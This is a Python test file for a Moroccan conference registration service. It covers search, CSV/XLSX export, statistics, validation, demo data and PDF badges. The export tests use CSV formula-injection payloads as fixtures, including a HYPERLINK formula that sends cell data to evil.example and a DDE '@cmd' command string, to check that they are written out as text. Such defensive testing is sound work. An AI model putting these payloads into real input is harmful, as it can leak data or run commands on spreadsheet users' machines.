"""Organizer views: search with pagination, CSV export, statistics; the demo loader."""

import csv
import io
import re
import subprocess
import unicodedata
from pathlib import Path

import openpyxl
from pymongo import ASCENDING
from registration_factories import registration_service

from registration import demo
from registration.service import context_of
from registration.store import REGISTRATIONS, indexes
from shared.mongo import make_client
from support import Infra, Keys, unique


async def test_csv_export_opens_with_arabic_names_intact(infra: Infra, keys: Keys) -> None:
    async with registration_service(infra, keys) as svc:
        conference = await svc.conference()
        await svc.register(conference["id"], full_name="محمد الأمين بن عبد الله", organization_name="تعاونية الأركان")
        await svc.register(conference["id"], full_name="Hélène Dupré")
        response = await svc.client.get(f"/admin/conferences/{conference['id']}/registrations.csv",
                                         headers=svc.organizer)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert response.content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert [r["full_name"] for r in rows] == ["محمد الأمين بن عبد الله", "Hélène Dupré"]
        assert rows[0]["organization_name"] == "تعاونية الأركان"


async def test_search_filters_and_paginates_registrations(infra: Infra, keys: Keys) -> None:
    async with registration_service(infra, keys) as svc:
        conference = await svc.conference(capacity=3)
        cid = conference["id"]
        await svc.register(cid, full_name="Nadia Berrada", region="oriental")
        for _ in range(4):
            await svc.register(cid, region="souss-massa", organization_type="association")
        url = f"/admin/conferences/{cid}/registrations"
        page = (await svc.client.get(url, params={"page_size": 2, "page": 2}, headers=svc.organizer)).json()
        assert page["total"] == 5 and [i["number"] for i in page["items"]] == [3, 4]
        waiting = (await svc.client.get(url, params={"status": "waitlisted"}, headers=svc.organizer)).json()
        assert waiting["total"] == 2
        named = (await svc.client.get(url, params={"q": "berrada"}, headers=svc.organizer)).json()
        assert [i["full_name"] for i in named["items"]] == ["Nadia Berrada"]
        by_region = (await svc.client.get(url, params={"region": "oriental"}, headers=svc.organizer)).json()
        assert by_region["total"] == 1
        by_category = (await svc.client.get(url, params={"category": "association"}, headers=svc.organizer)).json()
        assert by_category["total"] == 4
        not_in = (await svc.client.get(url, params={"checked_in": "false"}, headers=svc.organizer)).json()
        assert not_in["total"] == 5
        bad = await svc.client.get(url, params={"status": "lost"}, headers=svc.organizer)
        assert bad.status_code == 422


async def test_the_check_in_index_of_earlier_versions_is_dropped_and_the_search_indexes_kept(infra: Infra) -> None:
    client = make_client(infra.mongo_url)
    try:
        db = client[unique("db").replace("-", "_")]
        await db[REGISTRATIONS].create_index([("conference_id", ASCENDING), ("checked_in_at", ASCENDING)],
                                             name="by_checkin")
        await indexes().create(db)
        names = {index["name"] async for index in await db[REGISTRATIONS].list_indexes()}
        assert names == {"_id_", "one_registration_per_email", "by_number", "waiting_list_order", "by_category",
                         "by_region"}
    finally:
        await client.close()


async def test_statistics_count_by_status_category_region_gender_age_and_checkin_hour(
    infra: Infra, keys: Keys
) -> None:
    async with registration_service(infra, keys) as svc:
        conference = await svc.conference(capacity=2)
        cid = conference["id"]
        first = await svc.register(cid, gender="male", age_band="under_25", region="oriental")
        await svc.register(cid, gender=None, age_band=None, organization_type="media")
        await svc.register(cid)
        await svc.held_on(cid, "2026-03-01", "2026-03-01")
        badge = context_of(svc.platform).signer.sign({"t": "badge", "r": first["registration"]["id"], "c": cid})
        await svc.client.post(f"/checkin/conferences/{cid}/scans",
                              json={"token": badge, "scanned_at": "2026-03-01T09:15:00Z"}, headers=svc.staff(cid))
        stats = (await svc.client.get(f"/admin/conferences/{cid}/stats", headers=svc.organizer)).json()
        assert stats["by_status"] == {"confirmed": 2, "waitlisted": 1}
        assert stats["by_category"] == {"cooperative": 1, "media": 1}
        assert stats["by_region"] == {"oriental": 1, "souss-massa": 1}
        assert stats["by_gender"] == {"male": 1, "unspecified": 1}
        assert stats["by_age_band"] == {"under_25": 1, "unspecified": 1}
        assert stats["checked_in_by_hour"] == {"2026-03-01T09:00:00Z": 1}


async def test_conference_create_validates_and_rejects_a_duplicate_id(infra: Infra, keys: Keys) -> None:
    async with registration_service(infra, keys) as svc:
        await svc.conference(id="ess-test-edition")
        again = await svc.client.post("/admin/conferences", json={**(await svc.client.get(
            "/conferences/ess-test-edition")).json(), "id": "ess-test-edition"}, headers=svc.organizer)
        assert again.status_code == 422  # seats_left / registration_open are not accepted as input
        from registration_factories import conference_body

        duplicate = await svc.client.post("/admin/conferences", json=conference_body(id="ess-test-edition"),
                                          headers=svc.organizer)
        assert duplicate.status_code == 409 and duplicate.json()["code"] == "conference_exists"
        backwards = await svc.client.post("/admin/conferences",
                                          json=conference_body(starts_on="2027-06-17", ends_on="2027-06-16"),
                                          headers=svc.organizer | {"Accept-Language": "en"})
        assert backwards.status_code == 422
        assert backwards.json()["errors"][0]["message"] == "The end date must come after the start date."


async def test_demo_loads_the_editions_once_and_the_sixth_is_open(infra: Infra, keys: Keys) -> None:
    async with registration_service(infra, keys) as svc:
        created = await demo.load_demo(ctx=context_of(svc.platform))
        assert len(created) == 7
        assert await demo.load_demo(ctx=context_of(svc.platform)) == []
        listing = (await svc.client.get("/conferences")).json()
        assert len(listing) == 7
        fifth = (await svc.client.get("/conferences/ess-national-5")).json()
        assert fifth["slogan"]["ar"].startswith("الاقتصاد الاجتماعي والتضامني والتنمية المجالية")
        assert fifth["city"] == "Ben Guerir" and fifth["registration_open"] is False
        sixth = (await svc.client.get("/conferences/ess-national-6")).json()
        assert sixth["registration_open"] is True and sixth["capacity"] == 2000
        created_reg = await svc.register("ess-national-6")
        assert created_reg["registration"]["status"] == "confirmed"
        souss = (await svc.client.get("/conferences/ess-souss-massa-2018")).json()
        assert souss["kind"] == "regional_consultation" and souss["region"] == "souss-massa"


async def test_conference_update_cannot_empty_a_field_nor_put_the_dates_out_of_order(infra: Infra, keys: Keys
                                                                                     ) -> None:
    async with registration_service(infra, keys) as svc:
        conference = await svc.conference()
        url = f"/admin/conferences/{conference['id']}"
        emptied = await svc.client.patch(url, json={"venue": None, "starts_on": None}, headers=svc.organizer)
        assert emptied.status_code == 422
        assert {e["field"]: e["code"] for e in emptied.json()["errors"]} == {
            "venue": "field_not_nullable", "starts_on": "field_not_nullable"}
        backwards = await svc.client.patch(url, headers=svc.organizer, json={
            "registration_opens_at": "2027-05-01T00:00:00Z", "registration_closes_at": "2027-04-01T00:00:00Z"})
        assert backwards.status_code == 422 and backwards.json()["code"] == "dates_out_of_order"
        cleared = await svc.client.patch(url, json={"slogan": None}, headers=svc.organizer)
        assert cleared.status_code == 200 and cleared.json()["slogan"] is None
        assert (await svc.client.get(f"/conferences/{conference['id']}")).json()["venue"] == conference["venue"]


async def test_conference_time_zone_must_be_a_known_one(infra: Infra, keys: Keys) -> None:
    """Agenda turns local times into instants with it: an unknown zone is refused where it enters."""
    async with registration_service(infra, keys) as svc:
        conference = await svc.conference()
        url = f"/admin/conferences/{conference['id']}"
        unknown = await svc.client.patch(url, json={"timezone": "Africa/Atlantis"},
                                         headers={**svc.organizer, "Accept-Language": "ar"})
        assert unknown.status_code == 422
        assert {e["field"]: e["code"] for e in unknown.json()["errors"]} == {"timezone": "invalid_timezone"}
        assert unknown.json()["errors"][0]["message"] == "المنطقة الزمنية غير معروفة."
        known = await svc.client.patch(url, json={"timezone": "Europe/Paris"}, headers=svc.organizer)
        assert known.status_code == 200 and known.json()["timezone"] == "Europe/Paris"
        stored = (await svc.client.get(f"/conferences/{conference['id']}")).json()
        assert stored["timezone"] == "Europe/Paris"


async def test_conference_days_and_windows_outside_the_calendar_are_refused(infra: Infra, keys: Keys) -> None:
    """The last day of year 9999 has no next day: such a date is refused where it enters, not later in a consumer."""
    async with registration_service(infra, keys) as svc:
        conference = await svc.conference()
        url = f"/admin/conferences/{conference['id']}"
        far = await svc.client.patch(url, json={"ends_on": "9999-12-31"},
                                     headers={**svc.organizer, "Accept-Language": "fr"})
        assert far.status_code == 422
        assert {e["field"]: e["code"] for e in far.json()["errors"]} == {"ends_on": "day_out_of_range"}
        assert far.json()["errors"][0]["message"] == "Jour hors de la plage acceptée (de 1900 à 2200)."
        early = await svc.client.patch(url, json={"registration_opens_at": "0001-01-01T00:00:00Z"},
                                       headers=svc.organizer)
        assert early.status_code == 422
        assert [(e["field"], e["code"]) for e in early.json()["errors"]] == [
            ("registration_opens_at", "moment_out_of_range")]
        stored = (await svc.client.get(f"/conferences/{conference['id']}")).json()
        assert stored["ends_on"] == conference["ends_on"]
        assert stored["registration_opens_at"] == conference["registration_opens_at"]


async def test_csv_export_writes_formula_like_input_as_text(infra: Infra, keys: Keys) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez")'
    async with registration_service(infra, keys) as svc:
        conference = await svc.conference()
        await svc.register(conference["id"], full_name=hyperlink, organization_name="+SUM(1;2)",
                           accessibility_needs="@cmd|' /C calc'!A0")
        await svc.register(conference["id"], full_name="-2+3", accessibility_needs="\t=1+1")
        await svc.register(conference["id"], full_name="Hélène = Dupré", accessibility_needs="\rCR")
        response = await svc.client.get(f"/admin/conferences/{conference['id']}/registrations.csv",
                                        headers=svc.organizer)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    texts = [(r["full_name"], r["organization_name"], r["accessibility_needs"]) for r in rows]
    assert texts == [("'" + hyperlink, "'+SUM(1;2)", "'@cmd|' /C calc'!A0"),
                     ("'-2+3", "Coopérative Argane", "'\t=1+1"), ("Hélène = Dupré", "Coopérative Argane", "'\rCR")]
    assert [r["number"] for r in rows] == ["1", "2", "3"]


async def test_search_forgives_accents_and_alef_forms(infra: Infra, keys: Keys) -> None:
    async with registration_service(infra, keys) as svc:
        cid = (await svc.conference())["id"]
        await svc.register(cid, full_name="Étienne Lefèvre")
        await svc.register(cid, full_name="أمينة العلوي")
        await svc.register(cid, full_name="Antoine Martin")
        url = f"/admin/conferences/{cid}/registrations"

        async def names(q: str) -> list[str]:
            found = await svc.client.get(url, params={"q": q}, headers=svc.organizer)
            return [i["full_name"] for i in found.json()["items"]]

        assert await names("Etienne") == ["Étienne Lefèvre"]
        assert await names("lefevre") == ["Étienne Lefèvre"]
        assert await names("امينة") == ["أمينة العلوي"]
        assert await names("(") == []


async def test_xlsx_export_keeps_arabic_and_never_stores_a_formula(infra: Infra, keys: Keys) -> None:
    async with registration_service(infra, keys) as svc:
        cid = (await svc.conference())["id"]
        await svc.register(cid, full_name="محمد الأمين", organization_name="=HYPERLINK(\"http://x\")")
        response = await svc.client.get(f"/admin/conferences/{cid}/registrations.xlsx", headers=svc.organizer)
        assert response.status_code == 200
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        rows = list(sheet.iter_rows(values_only=True))
        header = list(rows[0])
        assert rows[1][header.index("full_name")] == "محمد الأمين"
        organization = sheet.cell(row=2, column=header.index("organization_name") + 1)
        assert organization.data_type == "s" and organization.value == "'=HYPERLINK(\"http://x\")"


async def test_bulk_badges_are_one_a6_page_per_confirmed_participant_with_arabic_names(
        infra: Infra, keys: Keys, tmp_path: Path) -> None:
    async with registration_service(infra, keys) as svc:
        cid = (await svc.conference(capacity=2))["id"]
        await svc.register(cid, full_name="أمينة العلوي", language="ar")
        await svc.register(cid, full_name="Hélène Dupré")
        await svc.register(cid, full_name="Waiting Person")  # waitlisted: no badge
        response = await svc.client.get(f"/admin/conferences/{cid}/badges.pdf", headers=svc.organizer)
        assert response.status_code == 200 and response.content.startswith(b"%PDF")
        (tmp_path / "badges.pdf").write_bytes(response.content)
        info = subprocess.run(["pdfinfo", str(tmp_path / "badges.pdf")], capture_output=True, text=True).stdout
        assert re.search(r"Pages:\s+2\b", info)
        assert "297.64 x 419.53" in info or "297.638 x 419.528" in info  # A6 in points
        text = subprocess.run(["pdftotext", str(tmp_path / "badges.pdf"), "-"], capture_output=True,
                              text=True).stdout
        assert "أمينة العلوي" in unicodedata.normalize("NFKC", text)
        assert "Hélène Dupré" in text and "Waiting Person" not in text
        other = await svc.client.get(f"/admin/conferences/{cid}/badges.pdf",
                                     headers=svc.keys.headers("organizer:conference:another"))
        assert other.status_code == 403
